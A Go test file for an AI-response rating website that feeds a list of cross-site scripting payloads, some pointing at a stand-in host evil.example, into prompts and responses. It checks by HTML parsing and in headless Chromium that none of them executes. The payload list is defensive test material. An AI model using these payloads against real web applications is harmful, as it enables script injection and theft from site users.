package rate_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"golang.org/x/net/html"

	"modeltrial/audit"
)

// payloads try to run a script that sets window.pwned.
var payloads = []string{
	`<script>pwned=1</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<img src=x onerror=pwned=1>`, `<svg onload=pwned=1>`,
	`<svg><script>pwned=1</script></svg>`, `<body onload=pwned=1>`, `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
	`<iframe src="javascript:parent.pwned=1"></iframe>`, `<a href="javascript:pwned=1">x</a>`, `[x](javascript:pwned=1)`, `[x](JaVaScRiPt:pwned=1)`,
	`[x](data:text/html,<script>pwned=1</script>)`, `![x](javascript:pwned=1)`, `![x](x"onerror="pwned=1)`, `![x](https://evil.example/x.png)`,
	`<javascript:pwned=1>`, `<input autofocus onfocus=pwned=1>`, `<details open ontoggle=pwned=1>`, `<video><source onerror=pwned=1></video>`,
	`<audio src=x onerror=pwned=1>`, `<object data="javascript:pwned=1"></object>`, `<embed src="javascript:pwned=1">`, `<math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>`,
	`<style>@import 'https://evil.example/x.css';</style>`, `<link rel=stylesheet href=https://evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=javascript:pwned=1">`,
	`<base href=https://evil.example/>`, `<form action=https://evil.example><button>x</button></form>`, `</div></section></main><script>pwned=1</script>`,
	`</textarea><script>pwned=1</script>`, `</title><script>pwned=1</script>`, `--><script>pwned=1</script>`, `<!--><img src=x onerror=pwned=1>-->`,
	`<noscript><p title="</noscript><img src=x onerror=pwned=1>">`, `"><img src=x onerror=pwned=1>`, `' onmouseover='pwned=1`, "```\"><script>pwned=1</script>\n```",
	"```html onload=pwned=1\n</code></pre><script>pwned=1</script>\n```", "`</code><script>pwned=1</script>`", `| a |` + "\n|---|\n" + `| <img src=x onerror=pwned=1> |`,
	`# <img src=x onerror=pwned=1>`, `<p style="background:url(javascript:pwned=1)">x</p>`, `<div style="position:fixed;inset:0">x</div>`, `<xss onclick=pwned=1 id=verdict>x</xss>`,
	`&lt;script&gt;pwned=1&lt;/script&gt;`, `&#60;script&#62;pwned=1&#60;/script&#62;`, `\<script>pwned=1\</script>`, "<scr\x00ipt>pwned=1</scr\x00ipt>", "<img src=x\nonerror\n=pwned=1>",
	`<a href="&#x6A;avascript:pwned=1">x</a>`, `[x]: javascript:pwned=1` + "\n\n[x]", `<template><script>pwned=1</script></template>`, `{{.ID}}{{template "head"}}`, `<button popovertarget=help formaction=javascript:pwned=1>x</button>`,
}

func hostileComparisons() []fakeComparison {
	var all []fakeComparison
	for _, payload := range payloads {
		all = append(all, fakeComparison{
			task: audit.Task{
				System: payload, Prompt: payload,
				Conversation: []audit.Message{{Role: "user", Content: payload}, {Role: "assistant", Content: payload}, {Role: payload, Content: payload}},
			},
			control: payload, candidate: "text\n\n" + payload,
		})
	}
	return all
}

// TestHostileText requires that the page's elements and attributes are the same
// dangerous few, whatever the texts are.
func TestHostileText(t *testing.T) {
	store := newFakeStore(hostileComparisons()...)
	token := store.invite(t, payloads[0])
	site := newSite(t, store, t.Output())
	for _, payload := range payloads {
		page := do(t, "GET", site.URL+"/", token, "").body
		document, err := html.Parse(strings.NewReader(page))
		if err != nil {
			t.Fatal(err)
		}
		counts := map[string]int{}
		for node := range document.Descendants() {
			if node.Type != html.ElementNode {
				continue
			}
			counts[node.Data]++
			switch node.Data {
			case "img", "iframe", "svg", "math", "object", "embed", "style", "base", "video", "audio", "template", "noscript", "xss":
				t.Errorf("%q gives <%s>", payload, node.Data)
			}
			for _, a := range node.Attr {
				if strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "srcdoc" || a.Key == "formaction" {
					t.Errorf("%q gives <%s %s=%q>", payload, node.Data, a.Key, a.Val)
				}
				if (a.Key == "href" || a.Key == "src" || a.Key == "action") && !strings.HasPrefix(a.Val, "/") && !strings.HasPrefix(a.Val, "#") {
					t.Errorf("%q gives <%s %s=%q>", payload, node.Data, a.Key, a.Val)
				}
			}
		}
		for name, want := range map[string]int{"script": 1, "link": 1, "form": 1, "textarea": 1, "title": 1} {
			if counts[name] != want {
				t.Errorf("%q gives %d <%s>, want %d", payload, counts[name], name, want)
			}
		}
		do(t, "POST", site.URL+"/verdict", token, "verdict=tie&id="+current(t, store, 1))
	}
}

// TestHostileTextInBrowser shows each payload to Chromium.
func TestHostileTextInBrowser(t *testing.T) {
	ctx := newBrowser(t)
	store := newFakeStore(hostileComparisons()...)
	token := store.invite(t, payloads[0])
	site := newSite(t, store, t.Output())
	if err := chromedp.Do(ctx, chromedp.Navigate(site.URL+"/r/"+token)); err != nil {
		t.Fatal(err)
	}
	for i, payload := range payloads {
		if err := chromedp.Do(ctx, chromedp.Navigate(site.URL+"/")); err != nil {
			t.Fatal(err)
		}
		got, err := chromedp.Run(ctx, chromedp.Evaluate[string](`[typeof window.pwned, document.title, location.pathname, document.images.length].join()`))
		if want := fmt.Sprintf("undefined,Comparison %d of %d,/,0", i+1, len(payloads)); err != nil || got != want {
			t.Errorf("%q: page is %q, %v, want %q", payload, got, err, want)
		}
		do(t, "POST", site.URL+"/verdict", token, "verdict=tie&id="+current(t, store, 1))
	}
}
